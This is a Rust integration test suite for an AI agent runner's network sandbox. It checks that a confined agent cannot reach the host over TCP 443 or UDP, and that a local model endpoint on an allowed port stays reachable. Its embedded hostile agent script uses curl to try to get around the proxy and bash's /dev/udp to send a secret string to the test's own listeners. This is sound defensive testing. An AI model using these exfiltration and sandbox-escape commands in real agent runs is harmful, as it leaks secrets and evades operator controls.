//! The agent's network without `allow_hosts` (issue 37 item 5, docs/security.md "The
//! agent's network"): under `[agent.sandbox] mode = "require"` a real `agent-runner round`
//! runs the agent in a network namespace of its own whose way out is the supervisor's
//! egress proxy in its open mode. A hostile agent (a shell script driving the real `curl`
//! and bash's `/dev/udp`) tries this machine's TCP 443 on `127.0.0.1` and on its own
//! address, directly and through the proxy, and sends a UDP datagram carrying a secret to
//! listeners of the test on both; a local model endpoint (the suite's fake model server)
//! on a port of `connect_ports` is still reached at `127.0.0.1:PORT`, with and without the
//! proxy variables. The control of each: `host_network = true` (the old network: Landlock's
//! port rule only), where the same attempts reach the listeners. Root and `ar-e2e` each.
//! Nothing leaves this machine: every target is `127.0.0.1` or this machine's own address.

use agent_runner_e2e::{workspace_root, Operator, Project};
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// One test of this file at a time holds port 443 (root and user cases run in parallel).
static PORT_443: Mutex<()> = Mutex::new(());

/// An HTTP listener answering every request `200` and counting them; closed when dropped
/// (port 443 is free again for the next case).
struct Listener {
    served: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

impl Listener {
    /// On `address:port` (`0`: any free port); port 443 is waited for while another
    /// program holds it (at most a minute).
    fn on(address: &str, port: u16) -> Listener {
        let deadline = Instant::now() + Duration::from_secs(60);
        let listener = loop {
            match TcpListener::bind((address, port)) {
                Ok(l) => break l,
                Err(e) if Instant::now() < deadline => {
                    eprintln!("waiting for {address}:{port}: {e}");
                    std::thread::sleep(Duration::from_millis(500));
                }
                Err(e) => panic!("bind {address}:{port}: {e}"),
            }
        };
        listener.set_nonblocking(true).unwrap();
        let served = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (count, stopped) = (served.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::SeqCst) {
                let Ok((conn, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                conn.set_nonblocking(false).unwrap();
                let count = count.clone();
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(conn.try_clone().unwrap());
                    let mut line = String::new();
                    while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
                        if line == "\r\n" {
                            break;
                        }
                        line.clear();
                    }
                    count.fetch_add(1, Ordering::SeqCst);
                    let mut conn = conn;
                    let _ = conn.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                    );
                });
            }
        });
        Listener {
            served,
            stop,
            thread: Some(thread),
        }
    }

    fn served(&self) -> usize {
        self.served.load(Ordering::SeqCst)
    }
}

/// A UDP socket of the test on `address`, and what reached it.
struct UdpSink {
    socket: UdpSocket,
}

impl UdpSink {
    fn on(address: &str) -> UdpSink {
        let socket = UdpSocket::bind((address, 0)).expect("bind the UDP sink");
        socket.set_nonblocking(true).unwrap();
        UdpSink { socket }
    }

    fn port(&self) -> u16 {
        self.socket.local_addr().unwrap().port()
    }

    /// Every datagram received so far, as text.
    fn received(&self) -> Vec<String> {
        let mut out = Vec::new();
        let mut buf = [0u8; 2048];
        while let Ok((n, _)) = self.socket.recv_from(&mut buf) {
            out.push(String::from_utf8_lossy(&buf[..n]).into_owned());
        }
        out
    }
}

/// This machine's own non-loopback IPv4 address.
fn own_address() -> String {
    let out = std::process::Command::new("hostname")
        .arg("-I")
        .output()
        .unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .find(|a| {
            a.parse::<std::net::Ipv4Addr>()
                .is_ok_and(|a| !a.is_loopback())
        })
        .expect("this machine has a non-loopback IPv4 address")
        .to_owned()
}

/// This machine's host name.
fn machine_name() -> String {
    let out = std::process::Command::new("hostname").output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// The hostile agent: each TCP attempt prints `<name> <http code>/<connect code> <curl's
/// exit>`, each datagram `<name> <bash's exit>`, then its network namespace.
const HOSTILE: &str = r#"#!/bin/sh
try() { name=$1; shift; printf '%s %s\n' "$name" "$(curl -s -o /dev/null --max-time 10 -w '%{http_code}/%{http_connect} %{exitcode}' "$@")"; }
try loopback_443 --noproxy '*' "http://127.0.0.1:443/hostile"
try own_443 --noproxy '*' "http://$OWN:443/hostile"
try proxied_loopback_443 --noproxy '' -p "http://127.0.0.1:443/hostile"
try proxied_own_443 --noproxy '' -p "http://$OWN:443/hostile"
try proxied_name_443 --noproxy '' -p "http://$NAME:443/hostile"
try proxied_http_own_443 --noproxy '' "http://$OWN:443/hostile"
bash -c "printf 'secret-of-the-config' >/dev/udp/127.0.0.1/$UDP_LO" 2>/dev/null; echo "udp_loopback $?"
bash -c "printf 'secret-of-the-config' >/dev/udp/$OWN/$UDP_OWN" 2>/dev/null; echo "udp_own $?"
printf 'netns %s\n' "$(readlink /proc/self/ns/net)"
"#;

/// The config of `p` with `agent` as its command, `env` in `[agent.env]` and `sandbox` as
/// `[agent.sandbox]`'s lines.
fn config_with_agent(p: &Project, agent: &std::path::Path, env: &[(&str, &str)], sandbox: &str) {
    let mut builder = p.config();
    for (k, v) in env {
        builder = builder.agent_env(k, v);
    }
    let config = builder
        .extra(&format!("[agent.sandbox]\n{sandbox}"))
        .render()
        .replace(
            &format!(
                "command = [{}]",
                agent_runner_e2e::toml_string(&p.agent_path().display().to_string())
            ),
            &format!(
                "command = [{}]",
                agent_runner_e2e::toml_string(&agent.display().to_string())
            ),
        );
    p.write_config_text(&config);
}

/// Each `<name> <value>` line of the round's log, by name.
fn round_results(p: &Project) -> impl Fn(&str) -> String {
    let all = p.events_text();
    let log = p
        .round_logs()
        .first()
        .map(|l| std::fs::read_to_string(l).unwrap())
        .unwrap_or_else(|| panic!("no round log\n{all}"));
    move |name: &str| {
        log.lines()
            .find_map(|l| l.strip_prefix(&format!("{name} ")))
            .unwrap_or_else(|| panic!("no {name} line in the round log:\n{log}\n{all}"))
            .to_owned()
    }
}

/// One round of [`HOSTILE`] as `operator` under `require`, `host_network` as given: the
/// round's results, its `agent_egress_refused` events, and what reached the listeners
/// (`127.0.0.1:443`, `<own>:443`, the two UDP sinks).
struct Attempts {
    result: Box<dyn Fn(&str) -> String>,
    refused: Vec<agent_runner_e2e::serde_json::Value>,
    tcp_loopback: usize,
    tcp_own: usize,
    udp_loopback: Vec<String>,
    udp_own: Vec<String>,
    events: String,
}

fn hostile_round(operator: Operator, host_network: bool) -> Attempts {
    let _held = PORT_443.lock().unwrap_or_else(|e| e.into_inner());
    let own = own_address();
    let tcp_loopback = Listener::on("127.0.0.1", 443);
    let tcp_own = Listener::on(&own, 443);
    let udp_loopback = UdpSink::on("127.0.0.1");
    let udp_own = UdpSink::on(&own);
    let p = Project::new_as(operator);
    let agent = p.script("agent/hostile-network.sh", HOSTILE);
    let (lo, ow) = (udp_loopback.port().to_string(), udp_own.port().to_string());
    let name = machine_name();
    config_with_agent(
        &p,
        &agent,
        &[
            ("OWN", &own),
            ("NAME", &name),
            ("UDP_LO", &lo),
            ("UDP_OWN", &ow),
        ],
        &format!("mode = \"require\"\nhost_network = {host_network}\n"),
    );
    let out = p.run(&["round"]);
    let events = p.events_text();
    out.assert_code(0);
    // A datagram sent is on its way at once on loopback. With the host's network (the
    // control) both sinks get one: wait for them. Under the confinement none may come;
    // one that would is given the same moment as before (300 ms) to show.
    let (mut udp_lo, mut udp_ow) = (Vec::new(), Vec::new());
    let window = if host_network {
        Duration::from_secs(30)
    } else {
        Duration::from_millis(300)
    };
    let deadline = Instant::now() + window;
    loop {
        udp_lo.extend(udp_loopback.received());
        udp_ow.extend(udp_own.received());
        let both = !udp_lo.is_empty() && !udp_ow.is_empty();
        if (host_network && both) || Instant::now() >= deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Attempts {
        result: Box::new(round_results(&p)),
        refused: p.events_of("agent_egress_refused"),
        tcp_loopback: tcp_loopback.served(),
        tcp_own: tcp_own.served(),
        udp_loopback: udp_lo,
        udp_own: udp_ow,
        events,
    }
}

fn this_machine_is_out_of_reach(operator: Operator) {
    let a = hostile_round(operator, false);
    let (result, all) = (&a.result, &a.events);
    // Directly: the namespace's own loopback has nothing on 443 (curl's 7: refused), and
    // this machine's address is not routed from there (7: unreachable).
    assert_eq!(result("loopback_443"), "000/000 7", "{all}");
    assert_eq!(result("own_443"), "000/000 7", "{all}");
    // Through the proxy: refused (403), by address and by this machine's name.
    assert_eq!(result("proxied_loopback_443"), "000/403 56", "{all}");
    assert_eq!(result("proxied_own_443"), "000/403 56", "{all}");
    assert_eq!(result("proxied_name_443"), "000/403 56", "{all}");
    assert_eq!(result("proxied_http_own_443"), "403/000 0", "{all}");
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    assert_ne!(result("netns"), own.display().to_string(), "{all}");
    // Nothing reached the listeners.
    assert_eq!((a.tcp_loopback, a.tcp_own), (0, 0), "{all}");
    assert_eq!(a.udp_loopback, Vec::<String>::new(), "{all}");
    assert_eq!(a.udp_own, Vec::<String>::new(), "{all}");
    // The datagram to this machine's address had no route (bash's redirection failed).
    assert_ne!(result("udp_own"), "0", "{all}");
    // Each proxy refusal recorded, with the class of the address (`127.0.0.1` is one of
    // this machine's addresses too) and the line to look at.
    let seen: Vec<(String, String)> = a
        .refused
        .iter()
        .filter(|e| e["layer"] != "namespace")
        .map(|e| {
            assert_eq!(e["layer"], "proxy", "{all}");
            assert_eq!(e["port"], 443, "{all}");
            assert_eq!(e["key"], "agent.sandbox.connect_ports", "{all}");
            assert!(
                e["reason"] == "loopback" || e["reason"] == "this_machine",
                "{all}"
            );
            (
                e["address"].as_str().unwrap().to_owned(),
                e["access"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let own = own_address();
    for want in [
        ("127.0.0.1", "connect"),
        (own.as_str(), "connect"),
        (own.as_str(), "http"),
    ] {
        assert!(
            seen.contains(&(want.0.to_owned(), want.1.to_owned())),
            "{want:?}: {all}"
        );
    }
    assert!(
        a.refused
            .iter()
            .any(|e| e["host"] == machine_name().as_str()),
        "the name's refusal: {all}"
    );
}

fn control_host_network_reaches_this_machine(operator: Operator) {
    let a = hostile_round(operator, true);
    let (result, all) = (&a.result, &a.events);
    // The old network: Landlock lets 443 through to any address, this machine's included,
    // and UDP goes anywhere.
    assert_eq!(result("loopback_443"), "200/000 0", "{all}");
    assert_eq!(result("own_443"), "200/000 0", "{all}");
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    assert_eq!(result("netns"), own.display().to_string(), "{all}");
    assert!(a.tcp_loopback >= 1 && a.tcp_own >= 1, "{all}");
    assert_eq!(a.udp_loopback, ["secret-of-the-config"], "{all}");
    assert_eq!(a.udp_own, ["secret-of-the-config"], "{all}");
}

#[test]
fn a_hostile_agent_cannot_reach_this_machine_by_tcp_443_or_udp_as_root() {
    this_machine_is_out_of_reach(Operator::Root);
}

#[test]
fn a_hostile_agent_cannot_reach_this_machine_by_tcp_443_or_udp_as_unprivileged_user() {
    this_machine_is_out_of_reach(Operator::Unprivileged);
}

#[test]
fn control_with_host_network_the_same_agent_reaches_this_machine_as_root() {
    control_host_network_reaches_this_machine(Operator::Root);
}

#[test]
fn control_with_host_network_the_same_agent_reaches_this_machine_as_unprivileged_user() {
    control_host_network_reaches_this_machine(Operator::Unprivileged);
}

/// The suite's fake model server (tests/agent-clis/fake_model.py) on `127.0.0.1`, each
/// request logged; killed when dropped.
struct FakeModel {
    child: std::process::Child,
    port: u16,
    log: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl FakeModel {
    fn start() -> FakeModel {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("requests.jsonl");
        let mut child = std::process::Command::new("python3")
            .arg(workspace_root().join("tests/agent-clis/fake_model.py"))
            .args(["--mode", "normal", "--host", "127.0.0.1", "--log"])
            .arg(&log)
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("start the fake model server");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line
            .trim()
            .strip_prefix("port ")
            .and_then(|p| p.parse().ok())
            .unwrap_or_else(|| panic!("fake model server said {line:?}"));
        FakeModel {
            child,
            port,
            log,
            _dir: dir,
        }
    }

    fn requests(&self) -> usize {
        std::fs::read_to_string(&self.log)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    }
}

impl Drop for FakeModel {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The agent of the local-endpoint case: a chat completion at the model's base URL
/// (`127.0.0.1:$P`) as a CLI that ignores the proxy variables sends it, as one that
/// honours them does (`NO_PROXY` keeps loopback direct), through the proxy all the same,
/// at `localhost`, and a loopback port not listed (`$Q`).
const ENDPOINT_AGENT: &str = r#"#!/bin/sh
chat() { name=$1; shift; printf '%s %s\n' "$name" "$(curl -s -o /dev/null --max-time 10 -w '%{http_code}/%{http_connect} %{exitcode}' -H 'Content-Type: application/json' -H 'Authorization: Bearer fake' -d '{"model":"m","messages":[{"role":"user","content":"hi"}]}' "$@")"; }
chat ignoring_proxy --noproxy '*' "http://127.0.0.1:$P/v1/chat/completions"
chat honouring_proxy "http://127.0.0.1:$P/v1/chat/completions"
chat through_proxy --noproxy '' "http://127.0.0.1:$P/v1/chat/completions"
chat localhost --noproxy '*' "http://localhost:$P/v1/chat/completions"
chat not_listed --noproxy '*' "http://127.0.0.1:$Q/v1/chat/completions"
printf 'proxy %s\n' "$HTTPS_PROXY"
"#;

fn local_model_endpoint(operator: Operator) {
    let model = FakeModel::start();
    let other = FakeModel::start();
    let p = Project::new_as(operator);
    let agent = p.script("agent/endpoint.sh", ENDPOINT_AGENT);
    let (port, other_port) = (model.port.to_string(), other.port.to_string());
    config_with_agent(
        &p,
        &agent,
        &[("P", &port), ("Q", &other_port)],
        &format!("mode = \"require\"\nconnect_ports = [{port}]\n"),
    );
    let out = p.run(&["round"]);
    let all = p.events_text();
    out.assert_code(0);
    let result = round_results(&p);
    assert_eq!(result("proxy"), "http://127.0.0.1:3128", "{all}");
    for how in [
        "ignoring_proxy",
        "honouring_proxy",
        "through_proxy",
        "localhost",
    ] {
        assert_eq!(result(how), "200/000 0", "{how}: {all}");
    }
    assert_eq!(model.requests(), 4, "{all}");
    // The control: a loopback port not listed is not reached (Landlock refuses it, and
    // nothing would forward it), and the refusal is told with its fix.
    assert_eq!(result("not_listed"), "000/000 7", "{all}");
    assert_eq!(other.requests(), 0, "{all}");
    let refused = p.events_of("agent_egress_refused");
    assert!(
        refused.iter().any(|e| e["port"] == other.port
            && e["layer"] == "landlock"
            && e["key"] == "agent.sandbox.connect_ports"),
        "{all}"
    );
}

#[test]
fn a_local_model_endpoint_on_a_listed_port_keeps_working_as_root() {
    local_model_endpoint(Operator::Root);
}

#[test]
fn a_local_model_endpoint_on_a_listed_port_keeps_working_as_unprivileged_user() {
    local_model_endpoint(Operator::Unprivileged);
}

/// `host_network = true` with `allow_hosts` is a contradiction, refused with the key.
#[test]
fn host_network_with_allow_hosts_is_refused() {
    let p = Project::new();
    p.write_config(
        &p.config()
            .extra("[agent.sandbox]\nhost_network = true\nallow_hosts = [\"api.example.org\"]\n"),
    );
    let out = p.run(&["round"]);
    out.assert_code(78);
    assert!(
        out.stderr.contains("agent.sandbox.host_network"),
        "{}",
        out.stderr
    );
}
